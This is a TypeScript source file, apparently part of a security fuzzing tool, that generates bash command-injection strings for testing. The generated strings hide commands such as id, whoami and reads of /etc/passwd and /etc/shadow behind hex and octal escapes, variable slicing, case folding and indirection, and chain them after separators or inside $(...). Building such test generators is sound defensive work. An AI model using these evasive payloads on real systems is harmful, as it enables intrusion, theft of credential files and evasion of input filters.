// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of the shells
import type { Random } from '../../../random.js';
import { commandGenerator } from '../command-generator.js';

const hex = (letter: string): string => `\\x${letter.charCodeAt(0).toString(16)}`;
const octal = (letter: string): string => `\\${letter.charCodeAt(0).toString(8)}`;
const write = (random: Random, word: string): string => {
  const disguise = random.pick([hex, octal, (letter: string) => `\\u00${letter.charCodeAt(0).toString(16)}`]);
  return `$'${[...word].map((letter) => (random.chance(0.7) ? disguise(letter) : letter)).join('')}'`;
};

/** Words as escapes of bash's dollar quotes, as slices of variables, by case folding and indirection. */
export const ansiQuoted = commandGenerator({
  name: 'ansi-quoted',
  shells: ['bash'],
  rules: {
    start: ['{leave}{sep}{hidden}{end}', '{inside}$({hidden}){outside}'],
    hidden: [
      '{program}',
      '{reader-word} {file-word}',
      '{reader-word} /etc/passwd',
      '${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd',
      '${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id',
      'x=WHOAMI; ${x,,}',
      'x=dwssap; id',
      'a=imaohw;$(rev<<<$a)',
      'x=xcatx;${x:1:3} /etc/passwd',
      'v=id;w=v;${!w}',
      '$(tr A-Z a-z<<<WHOAMI)',
      '$(printf i)$(printf d)',
      'p=/etc/passwd;cat ${p//x/y}',
      'e=echoid;${e#echo}',
      'e=idxxx;${e%xxx}',
    ],
    program: (random) => write(random, random.pick(['id', 'whoami', 'uname', 'hostname', 'ls'])),
    'reader-word': (random) => write(random, random.pick(['cat', 'head', 'nl', 'tac'])),
    'file-word': (random) => write(random, random.pick(['/etc/passwd', '/etc/hosts', '/etc/shadow'])),
  },
});
